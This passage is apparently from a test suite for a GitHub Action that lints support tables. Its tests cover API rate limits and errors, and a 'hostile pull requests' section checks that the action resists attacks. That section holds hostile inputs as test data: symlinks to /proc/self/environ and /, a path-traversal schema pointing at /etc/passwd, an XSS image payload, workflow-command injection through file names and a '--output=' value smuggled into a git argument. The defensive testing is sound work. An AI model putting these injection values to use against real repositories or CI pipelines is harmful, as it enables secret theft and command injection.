    const head: Files = { ...Object.fromEntries(names.map((n) => [n, schema('head')])), [DOC]: gates(ROWS.map((r) => r.replace('CpuGate | GA', 'CpuGate | Graduated')), NOTES) };
    const { result, requests } = await pr(base, head);
    const output = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { summary: string } }).output;
    expect(output.summary.length).toBeLessThanOrEqual(65_535);
    expect(output.summary).toContain('This pull request changes');
    expect(output.summary).toMatch(/… \d+ more characters/);
    expect(commands(result.stdout, 'notice').find((n) => n.message.startsWith('This pull request changes'))!.message.length).toBeLessThanOrEqual(64 * 1024);
  });

  it('waits for Retry-After on a 429, then succeeds', async () => {
    const secondary = { status: 429, headers: { 'retry-after': '1' }, body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' } };
    const { result, requests } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [secondary] } });
    expect(result.code).toBe(1);
    expect(requests.filter((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))).toHaveLength(2);
    expect(result.stdout).toMatch(/GitHub's secondary rate limit for POST .*\/check-runs: retrying in 1 s\./);
    expect(commands(result.stdout, 'notice').filter((n) => n.message.includes('check run'))).toEqual([]);
  });

  it('waits on a 429 the throttling plugin does not recognise: for its Retry-After, else backing off', async () => {
    const tooMany = { message: 'Too Many Requests' };
    const script = { 'POST check-runs': [{ status: 429, headers: { 'retry-after': '1' }, body: tooMany }, { status: 429, body: tooMany }] };
    const { result, requests } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script });
    expect(requests.filter((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))).toHaveLength(3);
    expect(result.stdout).toMatch(/GitHub's rate limit \(HTTP 429\) for POST .*\/check-runs: retrying in 1 s\./);
    expect(result.stdout).toMatch(/GitHub's rate limit \(HTTP 429\) for POST .*\/check-runs: retrying in 2 s\./);
    expect(commands(result.stdout, 'notice').filter((n) => n.message.includes('check run'))).toEqual([]);
  });

  it('names the missing permission on a 404 and the token on a 401', async () => {
    const notFound = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 404, body: { message: 'Not Found' } }] } });
    expect(commands(notFound.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
      expect.stringContaining('No support-table-lint check run: the API failed (HTTP 404: Not Found; the token needs `checks: write`'),
    );
    const badToken = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 401, body: { message: 'Bad credentials' } }] } });
    expect(commands(badToken.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
      expect.stringContaining('HTTP 401: Bad credentials; the token (input `token`) is missing, expired or revoked'),
    );
  });
});

describe('hostile pull requests (issue 12)', () => {
  it('reports a symlink to /proc/self/environ on the link, and the token appears nowhere', async () => {
    const { result, requests } = await pr(BASE_DOC, { 'docs/leak.md': { symlink: '/proc/self/environ' }, 'docs/zero.md': { symlink: '/dev/zero' } });
    expect(result.code).toBe(1);
    const unsafe = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['title'] === 'file-unsafe');
    expect(unsafe.map((e) => e.props['file']).sort()).toEqual(['docs/leak.md', 'docs/zero.md']);
    for (const e of unsafe) expect(e.message).toContain('leads outside the workspace');
    // checked() looked at the log, the summary, the outputs and every request body; the check run too:
    expect(JSON.stringify(requests.map((r) => r.body))).not.toContain('GITHUB_');
    expect(result.summary).not.toContain('INPUT_TOKEN');
  });

  it('on pull_request_target with the base branch checked out, fails and says what to check out: no green check for a pull request it never saw', async () => {
    for (const shallow of [false, true]) {
      const head = { [DOC]: gates(SORTED.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Graduated | SUPPORTED' : r)), NOTES) };
      const repo = makeRepo(BASE_DOC, head, { checkout: 'base', shallow });
      api = await startApi({ pullFiles: filesOf(repo, BASE_DOC, head), contents: contentsOf(repo, [DOC]) });
      const result = checked(await runAction({ repo, api, event: 'pull_request_target', payload: pullRequestPayload(repo, { fork: true }) }));
      expect(result.code).toBe(1);
      expect(commands(result.stdout, 'error').map((e) => e.message)).toEqual([
        expect.stringMatching(/^support-table-lint: The workspace holds commit [0-9a-f]{7}, which is neither the pull request's head [0-9a-f]{7} nor a merge of it.*\(on `pull_request_target`, actions\/checkout checks out the base branch\)\. Check out the head: `ref: \$\{\{ github\.event\.pull_request\.head\.sha \}\}`/),
      ]);
      expect(checkRuns(api.requests)).toEqual([]);
      await api.close();
    }
    // With the head checked out, as the message says, the same pull request is checked.
    const head = { [DOC]: gates(SORTED.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Graduated | SUPPORTED' : r)), NOTES) };
    const repo = makeRepo(BASE_DOC, head, { merge: false });
    api = await startApi({ pullFiles: filesOf(repo, BASE_DOC, head) });
    const result = checked(await runAction({ repo, api, event: 'pull_request_target', payload: pullRequestPayload(repo, { fork: true }) }));
    expect(result.code).toBe(1);
    expect(annotationsOf(result.stdout, api.requests, 'error').map((e) => e.message)).toEqual(expect.arrayContaining([expect.stringContaining('GRADUATION "Graduated" of "KvmGate"')]));
  });

  it('does not walk a directory symlink to / with scope: all', async () => {
    const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/root': { symlink: '/' }, 'docs/up': { symlink: '..' } }, {}, { merge: false });
    api = await startApi({});
    const result = checked(await runAction({ repo, api, event: 'workflow_dispatch', payload: { inputs: {} }, inputs: { scope: 'all', 'fail-on': 'never' } }));
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ 'files-checked': '1' });
    expect(result.stdout).not.toMatch(/docs\/(root|up)\//);
  });

  it('refuses to write report-file or sarif-file through a symlink the PR adds, and says so', async () => {
    const victims = tempFolder('victim');
    writeFileSync(join(victims, 'victim.json'), 'untouched');
    const { result } = await pr(BASE_DOC, { 'out/report.json': { symlink: join(victims, 'victim.json') }, sarif: { symlink: victims }, [DOC]: gates(SORTED, NOTES.slice(1)) }, {}, {
      'report-file': 'out/report.json',
      'sarif-file': 'sarif/lint.sarif',
    });
    expect(readFileSync(join(victims, 'victim.json'), 'utf8')).toBe('untouched');
    expect(existsSync(join(victims, 'lint.sarif'))).toBe(false);
    expect(result.outputs).toMatchObject({ 'report-file': '', 'sarif-file': '' });
    expect(commands(result.stdout, 'warning').map((w) => w.message)).toEqual([
      'The JSON report (report-file) was not written: out/report.json exists and is not a regular file (a symlink?); remove it or choose another path.',
      'The SARIF file (sarif-file) was not written: sarif/lint.sarif lies in a folder that is a symlink out of the workspace.',
    ]);
    // Nothing claims the report file holds the findings.
    expect(result.stdout + result.summary).not.toContain('report file');
  });

  it('reports, and never reads, schemas the PR\'s own config names outside the repository (trusted-config: base)', async () => {
    const CONFIG = '.github/support-table-lint.yml';
    const good = 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n';
    const evil = 'tables:\n  - files: ["docs/a*"]\n    schema: /dev/zero\n  - files: ["docs/b*"]\n    schema: ../../../../../../etc/passwd\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n';
    const { result } = await pr({ [CONFIG]: good, [DOC]: gates(SORTED, NOTES) }, { [CONFIG]: evil });
    expect(result.code).toBe(1);
    const error = commands(result.stdout, 'error').find((e) => e.props['title'] === 'support-table-lint: config');
    expect(error?.message).toMatch(/^This pull request's config is broken and will fail once merged: .*cannot read the schema file "\/dev\/zero": it is outside the repository; name files inside it/);
    for (const text of [result.stdout, result.summary]) expect(text).not.toMatch(/root:x:0:0/);
  });

  it('escapes hostile file names and cells: no workflow command, link, mention or HTML gets through', async () => {
    const hostileCell = '<img src=x onerror=alert(1)> [click](https://evil.example) @acme/admins ##[warning]x';
    const head: Files = {
      'docs/evil\n::error title=pwned::injected.md': gates(['NlGate | Graduated | SUPPORTED'], []),
      'docs/cr\rname.md': gates(['CrGate | Graduated | SUPPORTED'], []),
      '::warning title=pwned::boom.md': gates(['ColonGate | Graduated | SUPPORTED'], []),
      'docs/a](https:/evil.example)(.md': gates(['LinkGate | Graduated | SUPPORTED'], []),
      [DOC]: gates(SORTED.map((r) => (r.startsWith('KvmGate') ? `KvmGate | ${hostileCell} | SUPPORTED` : r)), NOTES),
    };
    for (const annotations of ['false', 'true']) {
      const { result, requests } = await pr(BASE_DOC, head, {}, { annotations });
      expect(result.code).toBe(1);
      expect(result.outputs).toMatchObject({ errors: '5' });
      // No line of the log is a command the PR wrote.
      const lines = result.stdout.split('\n');
      expect(lines.filter((l) => /pwned/.test(l) && /^\s*::/.test(l) && !/^::(error|notice|warning) (title=[^:,]*,)?file=/.test(l))).toEqual([]);
      // (A line that is a workflow command is read as that command alone: `##[` inside its message is text.)
      expect(lines.filter((l) => l.includes('##[') && !l.startsWith('::'))).toEqual([]);
      expect(commands(result.stdout, 'error').concat(commands(result.stdout, 'warning')).map((c) => c.props['title'])).not.toContain('pwned');
      // The summary: one row per finding, on one line each, nothing live.
      const rows = result.summary.split('\n').filter((l) => l.startsWith('| error |'));
      expect(rows).toHaveLength(5);
      for (const summary of [result.summary, ...requests.filter((r) => r.path.endsWith('/check-runs')).map((r) => (r.body as { output: { summary: string } }).output.summary)]) {
        expect(summary).not.toContain('<img');
        expect(summary).not.toContain('](https://evil');
        expect(summary).not.toMatch(/\[click\]\(/);
        expect(summary).not.toContain('@acme');
        expect(summary).not.toContain('\r');
      }
      expect(result.summary).toContain('docs/evil<br>::error title=pwned::injected.md');
      expect(result.summary).toContain('docs/cr<br>name.md');
    }
  });

  it('lints files a pull request adds in folders whose names hold line breaks', async () => {
    const head: Files = {
      'docs/a\nb/x.md': gates(['NlGate | Graduated | SUPPORTED'], []),
      'docs/c\u2028d/x.md': gates(['LsGate | Graduated | SUPPORTED'], []),
      'docs/e\rf/x.md': gates(['CrGate | Graduated | SUPPORTED'], []),
    };
    const { result } = await pr(BASE_DOC, head);
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '3', 'files-checked': '3' });
  });

  it('refuses a base SHA that is an option, and never runs git with it', async () => {
    const marker = join(tempFolder('sha'), 'written-by-git');
    const { result } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { pullFiles: 500 }, {}, {
      payload: (repo) => {
        const payload = pullRequestPayload(repo);
        payload.pull_request.base.sha = `--output=${marker}`;
        return payload;
      },
    });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'error').map((e) => e.message)).toEqual([
      "support-table-lint: The event's pull_request.base.sha is not a commit id (40 or 64 hexadecimal digits), so it is not passed to git.",
    ]);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('nothing lost, each channel alone (issue 12)', () => {
  const many = (n: number) => Array.from({ length: n }, (_, i) => `Gate${String(i).padStart(5, '0')} | Graduated | SUPPORTED`);
  /** Findings named in the summary's rows and in the step log's lines. */
  const rowsOf = (summary: string) => new Set([...summary.matchAll(/of "(Gate\d+)"/g)].map((m) => m[1]));
  const loggedOf = (stdout: string) => new Set([...stdout.matchAll(/^support-table-lint: docs\/many\.md:\d+:\d+ error .*of "(Gate\d+)"/gm)].map((m) => m[1]));

  it('past 4,300 findings with check-run: false and no report file, every finding is in the summary or the step log, and the summary says how many and where', async () => {
    const N = 4_400;
    const { result } = await pr(BASE_DOC, { 'docs/many.md': gates(many(N), []) }, {}, { 'check-run': 'false' });
    expect(result.code).toBe(1);
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
    const inSummary = rowsOf(result.summary);
    const logged = loggedOf(result.stdout);
    const left = N - inSummary.size;
    expect(left).toBeGreaterThan(0);
    expect(result.summary).toContain(
      `_${left} of ${N} rows left out to stay under GitHub's size limit; the step log lists the ${logged.size} that are in no other report, under "support-table-lint: findings not shown elsewhere"; set the \`report-file\` input to get every finding as JSON._`,
    );
    expect(result.stdout).toContain('::group::support-table-lint: findings not shown elsewhere');
    const everywhere = new Set([...inSummary, ...logged, ...commands(result.stdout, 'error').flatMap((e) => /of "(Gate\d+)"/.exec(e.message)?.[1] ?? [])]);
    expect(everywhere.size).toBe(N);
  });

  it('when the check run hits the rate limit, says so and still loses nothing', async () => {
    const N = 4_400;
    const limited = { status: 403, headers: { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600) }, body: { message: 'API rate limit exceeded for installation.' } };
    const { result } = await pr(BASE_DOC, { 'docs/many.md': gates(many(N), []) }, { script: { 'PATCH check-runs': [limited] } }, { 'check-run': 'true' });
    const notice = commands(result.stdout, 'notice').find((n) => n.message.includes('check run'));
    expect(notice?.message).toMatch(/^The support-table-lint check run holds only 50 of 4400 new findings: adding the rest failed \(HTTP 403: API rate limit exceeded for installation\.; GitHub's rate limit, .*\)\. All findings are in these annotations and the job summary and the step log\.$/);
    const everywhere = new Set([...rowsOf(result.summary), ...loggedOf(result.stdout), ...commands(result.stdout, 'error').flatMap((e) => /of "(Gate\d+)"/.exec(e.message)?.[1] ?? [])]);
    expect(everywhere.size).toBe(N);
  });

  it('writes outputs and the verdict when GITHUB_STEP_SUMMARY cannot be written, with one warning', async () => {
    const nowhere = join(tempFolder('nosummary'), 'missing', 'summary.md');
    const { result } = await pr(BASE_DOC, TYPO_AND_UNSORTED, {}, {}, { env: { GITHUB_STEP_SUMMARY: nowhere } });
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '1', warnings: '1', existing: '0', 'files-checked': '1', 'tables-checked': '1' });
    const warnings = commands(result.stdout, 'warning').filter((w) => !w.props['file']);
    expect(warnings.map((w) => w.message)).toEqual([expect.stringMatching(/^The job summary was not written: /)]);
    const verdict = commands(result.stdout, 'error').filter((e) => !e.props['file']);
    expect(verdict.map((e) => e.message)).toEqual(['support-table-lint found 1 new error in support tables (fail-on: error); see the annotations or the support-table-lint check run.']);
  });
});

describe('bad input from the runner or the API (issue 12)', () => {
  it('says what is wrong with a malformed event file, without a stack trace', async () => {
    const { result } = await pr(BASE_DOC, BASE_DOC, {}, {}, { eventText: '{"pull_request": {' });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'error')[0]?.message).toMatch(
      /^support-table-lint: Could not read the event file GITHUB_EVENT_PATH \(.*event\.json\): it is not JSON \(.*\)\. Run this Action inside a GitHub Actions workflow\.$/,
    );
  });

  it('falls back to git when the files API answers with something that is not a list', async () => {
    const { result } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { pullFiles: 'not-a-list' });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'notice').map((n) => n.message)).toContain(
      'Listed the changed files with git because the pull request files API failed (the pull request files API did not answer with a list of files).',
    );
  });

  it('gives up on a stalled API after the request timeout, and makes no further calls', async () => {
    const { result, requests } = await pr(
      BASE_DOC,
      TYPO_AND_UNSORTED,
      { script: { 'POST check-runs': ['stall'] } },
      {},
      // Test-only: the request timeout can be shortened (never lengthened) through this variable; see github-api.ts.
      { env: { SUPPORT_TABLE_LINT_REQUEST_TIMEOUT_MS: '300' } },
    );
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'notice').map((n) => n.message)).toEqual([
      "No review with suggested fixes (1): could not read the review comments (GitHub's API did not answer within 0.3 s, so no further API calls were made).",
      "No support-table-lint check run: the API failed (GitHub's API did not answer within 0.3 s, so no further API calls were made). The findings are in these annotations and the job summary.",
    ]);
    const after = requests.slice(requests.findIndex((r) => r.method === 'POST' && r.path.endsWith('/check-runs')) + 1);
    expect(after).toEqual([]);
    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
  });
});
